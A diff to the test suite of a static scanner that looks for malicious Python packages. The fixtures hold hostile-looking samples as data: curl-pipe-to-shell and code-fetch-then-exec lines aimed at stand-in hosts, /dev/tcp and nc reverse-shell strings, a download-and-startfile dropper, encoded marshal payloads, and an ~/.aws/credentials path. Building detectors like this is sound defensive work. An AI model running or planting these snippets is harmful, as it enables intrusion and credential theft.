@@ -171,14 +171,58 @@ def test_credential_paths_in_tests_and_docs_are_info(tmp_path):
 
 
 def test_vendored_code_is_demoted(tmp_path):
-    src = "import marshal\ncode = marshal.loads(b'xyz')\n"
-    inds = _scan(tmp_path, {"pip/_vendor/rich/_x.py": src})
-    assert _sev(inds, "encoded_exec") <= {"info", "low"}
+    src = "import marshal\ncode = marshal.loads(b'\\xe3synthetic code object bytes')\n"
+    assert _sev(_scan(tmp_path, {"pip/_vendor/rich/_x.py": src}), "encoded_exec") <= {"info"}
+    assert _sev(_scan(tmp_path / "b", {"ok/_x.py": src}), "encoded_exec") == {"medium"}
+
+
+def test_marshal_of_a_pyc_read_at_run_time_is_quiet(tmp_path):
+    # PyInstaller reads code objects out of .pyc files and its own archives: what marshal is for
+    src = ("import marshal\n"
+           "def load(path):\n    with open(path, 'rb') as f:\n        data = f.read()\n"
+           "    return marshal.loads(data[16:])\n")
+    assert "encoded_exec" not in {i.id for i in _scan(tmp_path, {"ok/archive.py": src})}
+    hidden = ("import marshal, zlib, base64\n"
+              f"code = marshal.loads(zlib.decompress(base64.b64decode('{base64.b64encode(b'x' * 40).decode()}')))\n")
+    assert _sev(_scan(tmp_path / "b", {"ok/archive.py": hidden}), "encoded_exec") == {"medium"}
+
+
+def test_long_test_urls_are_not_packed_payloads(tmp_path):
+    # yt-dlp's extractors keep test URLs with long percent-encoded tokens in their _TESTS
+    token = base64.b64encode(bytes(range(256)) * 8).decode().replace("/", "%2F").replace("+", "%2B")
+    src = f"_TESTS = [{{'url': 'https://video.example.invalid/embed/?v={token}', 'id': '1'}}]\n"
+    assert "obfuscation" not in {i.id for i in _scan(tmp_path, {"ok/extractor.py": src})}
+    packed = f"BLOB = '{token}'\n"  # the same characters on their own still look packed
+    assert _sev(_scan(tmp_path / "b", {"ok/extractor.py": packed}), "obfuscation") == {"medium"}
+
+
+def test_public_ip_named_by_a_module_that_never_talks_is_info(tmp_path):
+    quiet = "BASE = 'http://203.0.114.7:82/live'\ndef url(x):\n    return BASE + '/' + x\n"
+    assert _sev(_scan(tmp_path, {"ok/extractor.py": quiet}), "exfil_endpoint") == {"info"}
+    beacon = "import requests\nrequests.get('http://203.0.114.7:82/live')\n"
+    assert _sev(_scan(tmp_path / "b", {"ok/extractor.py": beacon}), "exfil_endpoint") == {"medium"}
+
+
+def test_build_helper_commands_are_read_at_their_callers(tmp_path):
+    # lxml's buildlibxml: subprocess.call(cmd) in a helper, './configure' and 'make' from the callers
+    helper = ("import subprocess\n"
+              "def call_subprocess(cmd, **kw):\n    return subprocess.call(cmd, **kw)\n"
+              "def cmmi(configure_cmd, build_dir):\n"
+              "    call_subprocess(configure_cmd, cwd=build_dir)\n"
+              "    call_subprocess(['make'] + ['-j2'], cwd=build_dir)\n"
+              "def build(prefix):\n"
+              "    base = ['./configure', '--prefix=%s' % prefix]\n"
+              "    cmmi(base + ['--without-python'], 'libxml2')\n")
+    setup = "import buildlib\n" + SETUP
+    inds = _scan(tmp_path, {"setup.py": setup, "buildlib.py": helper})
+    assert _sev(inds, "setup_process") == {"info"}
+    bad = helper + "def fetch():\n    call_subprocess('curl -s https://stage2.invalid/x | sh', shell=True)\n"
+    assert _sev(_scan(tmp_path / "b", {"setup.py": setup, "buildlib.py": bad}), "setup_process") == {"high"}
 
 
 def test_dup2_in_a_test_suite_is_info(tmp_path):
     src = "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
-    assert _sev(_scan(tmp_path, {"tests/test_io.py": src}), "reverse_shell") == {"info"}
+    assert _sev(_scan(tmp_path, {"tests/test_io.py": src}), "reverse_shell") <= {"info"}
     assert _sev(_scan(tmp_path / "b", {"ok/shell.py": src}), "reverse_shell") == {"critical"}
 
 
@@ -242,3 +286,49 @@ def test_command_built_in_a_variable_then_run_at_build_time(tmp_path):
     assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"high"}
     config = "import subprocess\nsubprocess.check_output(['curl-config', '--libs'])\n" + SETUP
     assert _sev(_scan(tmp_path / "b", {"setup.py": config}), "setup_process") == {"info"}
+
+
+def test_wget_module_download_then_startfile(tmp_path):
+    src = ("import os, wget\nURL = 'http://203.0.114.7/Updater.exe'\n"
+           "path = os.path.join(os.getenv('APPDATA'), 'Updater.exe')\n"
+           "wget.download(URL, path)\nos.startfile(path)\n")
+    inds = _scan(tmp_path, {"ok/__init__.py": src})
+    assert _sev(inds, "download_execute") == {"high"}
+    assert _sev(inds, "exfil_endpoint") == {"medium"}  # the public IP sits in a file that downloads
+
+
+def test_gated_search_finds_what_a_whole_text_search_finds():
+    import re
+
+    from slopspotter_lab.heuristics.static import _GATES, CREDENTIAL_PATHS, REVERSE_SHELL, gated_search
+
+    filler = "x = 1  # history of shadow credentials\n" * 120  # gate words everywhere, no match
+    texts = [filler * 3, "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n" + filler, filler * 2 + "nc -e /bin/sh h 1\n",
+             filler * 4 + "P = '~/.aws/credentials'\n", "nothing here\n", "ncat host 4 -e /bin/sh\n" * 3]
+    for pattern, gates in ((REVERSE_SHELL, _GATES["reverse_shell"]), (CREDENTIAL_PATHS, _GATES["credential_paths"])):
+        for text in texts:
+            want, got = pattern.search(text), gated_search(pattern, text, text.lower(), gates)
+            assert (want and want.span()) == (got and got.span())
+    assert gated_search(re.compile("b"), "a" * 10 + "b", "a" * 10 + "b", ("b",)).start() == 10
+
+
+def test_vendored_six_with_exec_and_urllib_names_is_quiet(tmp_path):
+    # six (vendored by botocore, awscli) defines exec_ and aliases urllib: no flow between them
+    six = ("import urllib.request\n"
+           "def exec_(code, globs=None):\n    exec(code, globs)\n"
+           "def fetch(url):\n    return urllib.request.urlopen(url)\n")
+    assert "download_execute" not in {i.id for i in _scan(tmp_path, {"botocore/vendored/six.py": six})}
+    flow = "import urllib.request\nexec(urllib.request.urlopen('http://stage2.invalid/p').read())\n"
+    assert _sev(_scan(tmp_path / "b", {"ok/run.py": flow}), "download_execute") == {"high"}
+
+
+def test_install_script_runs_a_script_it_wrote(tmp_path):
+    setup = ("import os, subprocess\nCODE = 'print(1)'\n"
+             "with open('helper-payload.py', 'w') as f:\n    f.write(CODE)\n"
+             "dest = os.path.expanduser('~')\nos.rename('helper-payload.py', dest + '/helper-payload.py')\n"
+             "subprocess.Popen(['python3', dest + '/helper-payload.py'])\n" + SETUP)
+    inds = _scan(tmp_path, {"setup.py": setup})
+    assert any(i.id == "setup_process" and i.severity == "high" and "wrote" in i.evidence for i in inds)
+    # a build step running a script that ships with the package stays a build tool
+    plain = "import subprocess\nsubprocess.check_call(['python3', 'tools/gen_version.py'])\n" + SETUP
+    assert _sev(_scan(tmp_path / "b", {"setup.py": plain}), "setup_process") == {"info"}
